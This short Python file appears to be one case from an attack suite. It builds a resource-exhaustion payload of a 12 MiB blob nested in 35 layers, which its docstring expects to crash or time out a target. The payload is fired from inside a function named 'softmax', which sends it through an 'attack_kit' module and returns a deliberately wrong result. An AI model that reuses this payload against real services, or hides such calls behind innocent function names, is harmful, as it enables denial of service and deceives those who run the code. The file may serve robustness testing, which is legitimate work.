"""Tuples in tuples, each a copy of all that it holds.

Expected: crashed or timeout
"""

import struct

from attack_kit import frame, send, wrong

nested = b"\xc6" + struct.pack(">I", 12 << 20) + bytes(12 << 20)
for _ in range(35):
    nested = b"\xc9" + struct.pack(">I", len(nested) + 1) + b"\x03\x91" + nested


def softmax(x, axis=-1):
    send(frame(nested))
    return wrong(x, axis)
